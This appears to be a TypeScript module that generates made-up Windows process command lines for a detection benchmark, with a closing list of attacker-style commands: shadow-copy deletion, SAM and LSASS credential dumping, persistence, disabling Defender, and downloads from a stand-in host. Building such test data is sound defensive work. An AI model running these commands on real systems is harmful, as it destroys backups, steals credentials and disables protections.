/**
 * What runs on the made-up machines of the benchmark: programs with their version facts and command lines, common ones
 * first, and command lines of the kind that published rules look for.
 */
import type { Random } from '../tools/random.ts'

export interface Program {
  readonly image: string
  readonly original: string
  readonly description: string
  readonly vendor: 'windows' | 'office' | 'other'
  /** A command line; the account is given without its domain. */
  command(random: Random, account: string): string
}

const S = 'C:\\Windows\\System32\\'
const P = 'C:\\Program Files\\'
const X = 'C:\\Program Files (x86)\\'

export const WORDS =
  'account agent archive asset audit backup batch billing bridge broker cache catalog channel client cluster config contact crawler daily data delivery deploy desk device digest domain export feed filter finance gateway health import index intake inventory invoice journal label ledger linker loader mailer market media meeting metric mirror monitor node notice offer order packer parcel payment planner policy portal price printer probe profile queue quota reader recipe record relay remote render report roster router sales scanner schedule sender session share shelf signal spool stock store stream survey sync task ticket timer token tracker travel update vault vendor viewer voucher watcher wiki worker'.split(
    ' ',
  )

const SERVICES =
  'Schedule BITS wuauserv Appinfo DsSvc WpnService ClipSVC gpsvc UsoSvc lfsvc Dnscache'.split(' ')
const GROUPS = 'netsvcs LocalService LocalServiceNetworkRestricted wsappx UnistackSvcGroup'.split(
  ' ',
)

function windows(
  file: string,
  original: string,
  description: string,
  command: Program['command'],
): Program {
  return { image: S + file, original, description, vendor: 'windows', command }
}

function other(
  image: string,
  original: string,
  description: string,
  command: Program['command'],
): Program {
  return { image, original, description, vendor: 'other', command }
}

function wordPath(random: Random): string {
  return `C:\\ProgramData\\${random.pick(WORDS)}\\${random.pick(WORDS)}`
}

const CHROME = `${P}Google\\Chrome\\Application\\chrome.exe`
const EDGE = `${X}Microsoft\\Edge\\Application\\msedge.exe`
const POWERSHELL = `${S}WindowsPowerShell\\v1.0\\powershell.exe`
const WORD = `${P}Microsoft Office\\root\\Office16\\WINWORD.EXE`

/** Common first: the generator draws them by Zipf. */
export const PROGRAMS: readonly Program[] = [
  windows(
    'svchost.exe',
    'svchost.exe',
    'Host Process for Windows Services',
    (r) => `${S}svchost.exe -k ${r.pick(GROUPS)} -p -s ${r.pick(SERVICES)}`,
  ),
  windows(
    'conhost.exe',
    'CONHOST.EXE',
    'Console Window Host',
    () => `\\??\\${S}conhost.exe 0xffffffff -ForceV1`,
  ),
  other(
    CHROME,
    'chrome.exe',
    'Google Chrome',
    (r) =>
      `"${CHROME}" --type=${r.pick(['renderer', 'utility', 'gpu-process'])} --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --variations-seed-version=20261004-180041.112000 --enable-features=SpareRenderer,FontFallback --renderer-client-id=${r.below(9_999)} --launch-time-ticks=${r.below(1e9)} --field-trial-handle=${r.below(9_999)},i,${r.hex(16)},262144 /prefetch:${r.below(9)}`,
  ),
  windows(
    'RuntimeBroker.exe',
    'RuntimeBroker.exe',
    'Runtime Broker',
    () => `${S}RuntimeBroker.exe -Embedding`,
  ),
  windows(
    'cmd.exe',
    'Cmd.Exe',
    'Windows Command Processor',
    (r) =>
      `${S}cmd.exe /d /c "${r.pick(['echo done', 'dir /b', 'type', 'copy /y', 'if exist', 'call'])} ${wordPath(r)}_${r.hex(8)}.${r.pick(['bat', 'log', 'txt', 'json'])} > C:\\Windows\\Temp\\${r.hex(10)}.out"`,
  ),
  windows(
    'backgroundTaskHost.exe',
    'backgroundTaskHost.exe',
    'Background Task Host',
    (r) => `"${S}backgroundTaskHost.exe" -ServerName:App.AppX${r.hex(24)}.mca`,
  ),
  windows(
    'taskhostw.exe',
    'taskhostw.exe',
    'Host Process for Windows Tasks',
    (r) => `taskhostw.exe ${r.pick(['', 'SYSTEM', 'KEYROAMING', 'Install $(Arg0)'])}`,
  ),
  other(
    EDGE,
    'msedge.exe',
    'Microsoft Edge',
    (r) =>
      `"${EDGE}" --type=renderer --lang=en-US --instant-process --device-scale-factor=1 --enable-main-frame-before-activation --variations-seed-version=20261002-050113.442000 --no-pre-read-main-dll --num-raster-threads=2 --renderer-client-id=${r.below(9_999)} --time-ticks-at-unix-epoch=-${r.below(1e9)}${r.below(1e6)} /prefetch:1`,
  ),
  {
    ...windows(
      'powershell.exe',
      'PowerShell.EXE',
      'Windows PowerShell',
      (r) =>
        `"${POWERSHELL}" -NoProfile -NonInteractive -Command "& {Import-Module ${r.pick(WORDS)}; Get-${r.pick(WORDS)} -Path '${wordPath(r)}-${r.hex(10)}.json' | Out-File -Encoding utf8 C:\\Windows\\Temp\\${r.hex(8)}.txt; exit $LASTEXITCODE}"`,
    ),
    image: POWERSHELL,
  },
  windows(
    'wbem\\WmiPrvSE.exe',
    'Wmiprvse.exe',
    'WMI Provider Host',
    () => `${S}wbem\\wmiprvse.exe -secured -Embedding`,
  ),
  windows(
    'dllhost.exe',
    'dllhost.exe',
    'COM Surrogate',
    (r) =>
      `${S}DllHost.exe /Processid:${r.pick(['{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}', '{3AD05575-8857-4850-9277-11B85BDB8E09}'])}`,
  ),
  other(
    `${P}nodejs\\node.exe`,
    'node.exe',
    'Node.js',
    (r, u) =>
      `"${P}nodejs\\node.exe" C:\\Users\\${u}\\src\\${r.pick(WORDS)}-${r.pick(WORDS)}\\bin\\${r.pick(WORDS)}.js --port ${r.below(60_000)} --config ${r.pick(WORDS)}.${r.hex(6)}.json`,
  ),
  windows(
    'rundll32.exe',
    'RUNDLL32.EXE',
    'Windows host process (Rundll32)',
    (r) =>
      `${S}rundll32.exe ${S}${r.pick(['shell32.dll,Control_RunDLL', 'davclnt.dll,DavSetCookie', 'PcaSvc.dll,PcaPatchSdbTask'])} ${r.hex(8)}`,
  ),
  other(
    `${P}Git\\cmd\\git.exe`,
    'git.exe',
    'Git',
    (r, u) =>
      `git.exe -c core.quotepath=false -c log.showSignature=false ${r.pick(['fetch', 'status --porcelain', 'log -1 --format=%H', 'diff --name-only'])} ${r.hex(40)} -- C:/Users/${u}/src/${r.pick(WORDS)}/${r.pick(WORDS)}.ts`,
  ),
  {
    ...other(
      WORD,
      'WinWord.exe',
      'Microsoft Word',
      (r, u) =>
        `"${WORD}" /n "C:\\Users\\${u}\\Documents\\${r.pick(WORDS)} ${r.pick(WORDS)} ${r.below(99_999)}.docx" /o ""`,
    ),
    vendor: 'office',
  },
  windows(
    'reg.exe',
    'reg.exe',
    'Registry Console Tool',
    (r) =>
      `reg  query HKLM\\SOFTWARE\\${r.pick(WORDS)}\\${r.pick(WORDS)} /v ${r.pick(WORDS)}${r.below(99)}`,
  ),
  windows(
    'schtasks.exe',
    'schtasks.exe',
    'Task Scheduler Configuration Tool',
    (r) => `schtasks  /query /tn "\\${r.pick(WORDS)}\\${r.pick(WORDS)}-${r.hex(6)}" /fo csv /v`,
  ),
  windows(
    'net.exe',
    'net.exe',
    'Net Command',
    (r) => `net  use \\\\srv-${r.below(400)}.corp.example.com\\${r.pick(WORDS)} /persistent:no`,
  ),
  windows(
    'msiexec.exe',
    'msiexec.exe',
    'Windows installer',
    (r) =>
      `${S}MsiExec.exe -Embedding ${r.hex(32).toUpperCase()} ${r.pick(['', 'E Global\\MSI0000', 'C'])}`,
  ),
  windows(
    'sc.exe',
    'sc.exe',
    'Service Control Manager Configuration Tool',
    (r) => `sc.exe query ${r.pick(WORDS)}${r.pick(WORDS)}`,
  ),
  windows(
    'wevtutil.exe',
    'wevtutil.exe',
    'Eventing Command Line Utility',
    (r) =>
      `wevtutil.exe qe ${r.pick(['Application', 'System'])} /c:${r.below(500)} /rd:true /f:text`,
  ),
  // The last two stand for programs of many makers; the generator gives them a path.
  other(
    'user',
    '-',
    '-',
    (r, u) =>
      `"C:\\Users\\${u}\\AppData\\Local\\${r.pick(WORDS)}\\app-${r.below(9)}.${r.below(99)}\\${r.pick(WORDS)}.exe" --type=${r.pick(WORDS)} --user-data-dir="C:\\Users\\${u}\\AppData\\Roaming\\${r.pick(WORDS)}" --id=${r.hex(24)}`,
  ),
  other(
    'vendor',
    '-',
    '-',
    (r) => `--${r.pick(WORDS)} --${r.pick(WORDS)}=${r.below(1e6)} /svc:${r.pick(WORDS)}`,
  ),
]

/** Parents, common first. */
export const PARENTS: readonly string[] = [
  `${S}services.exe`,
  `${S}svchost.exe`,
  'C:\\Windows\\explorer.exe',
  `${S}cmd.exe`,
  CHROME,
  POWERSHELL,
  EDGE,
  `${S}userinit.exe`,
  `${P}Microsoft Monitoring Agent\\Agent\\MonitoringHost.exe`,
  `${S}wininit.exe`,
]

export interface Suspect {
  readonly image: string
  readonly command: string
  readonly parent?: string
}

const suspect = (file: string, command: string, parent?: string): Suspect => ({
  image: file.includes(':') ? file : S + file,
  command,
  ...(parent === undefined ? {} : { parent }),
})

/** What intruders and administrators in a hurry type; published rules look for most of these. */
export const SUSPECTS: readonly Suspect[] = [
  suspect('whoami.exe', 'whoami /priv'),
  suspect('whoami.exe', 'whoami /all'),
  suspect('vssadmin.exe', 'vssadmin delete shadows /all /quiet'),
  suspect('vssadmin.exe', 'vssadmin.exe Delete Shadows /For=C: /Quiet'),
  suspect('wbem\\WMIC.exe', 'wmic shadowcopy delete'),
  suspect('wbadmin.exe', 'wbadmin delete catalog -quiet'),
  suspect('bcdedit.exe', 'bcdedit /set {default} recoveryenabled no'),
  suspect('wevtutil.exe', 'wevtutil cl Security'),
  suspect('net.exe', 'net user /domain'),
  suspect('net1.exe', 'net1 localgroup administrators helper /add'),
  suspect('nltest.exe', 'nltest /domain_trusts /all_trusts'),
  suspect('reg.exe', 'reg save HKLM\\SAM C:\\Windows\\Temp\\s.dat'),
  suspect(
    'reg.exe',
    'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\Users\\Public\\u.exe /f',
  ),
  suspect(
    'schtasks.exe',
    'schtasks /create /sc minute /mo 5 /tn upd /tr "powershell -w hidden C:\\Users\\Public\\u.ps1"',
  ),
  suspect(
    'certutil.exe',
    'certutil -urlcache -split -f http://files.example.test/a.txt C:\\Users\\Public\\a.txt',
  ),
  suspect(
    'bitsadmin.exe',
    'bitsadmin /transfer job /download /priority high http://files.example.test/b C:\\Users\\Public\\b',
  ),
  suspect('mshta.exe', 'mshta http://files.example.test/page.hta'),
  suspect('regsvr32.exe', 'regsvr32 /s /n /u /i:http://files.example.test/x.sct scrobj.dll'),
  suspect(
    'rundll32.exe',
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 720 C:\\Windows\\Temp\\l.dmp full',
  ),
  suspect('wscript.exe', 'wscript.exe //B C:\\Users\\Public\\notes.vbs', WORD),
  suspect(
    POWERSHELL,
    'powershell -NoP -W Hidden -enc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAxAA==',
    WORD,
  ),
  suspect(POWERSHELL, 'powershell Set-MpPreference -DisableRealtimeMonitoring $true'),
  suspect(
    POWERSHELL,
    'powershell -c "Invoke-WebRequest http://files.example.test/c -OutFile $env:TEMP\\c"',
  ),
  suspect('cmd.exe', 'cmd.exe /c echo open 203.0.113.66 > C:\\Windows\\Temp\\f.txt'),
  suspect('C:\\Python312\\python.exe', 'python.exe -c "import pty; pty.spawn(\'cmd.exe\')"'),
  suspect('netsh.exe', 'netsh advfirewall set allprofiles state off'),
  suspect('sc.exe', 'sc stop WinDefend'),
  suspect('taskkill.exe', 'taskkill /f /im sqlservr.exe'),
  suspect('wbem\\WMIC.exe', 'wmic /node:10.20.1.12 process call create "cmd /c hostname"'),
  suspect('C:\\Windows\\PSEXESVC.exe', 'C:\\Windows\\PSEXESVC.exe'),
]
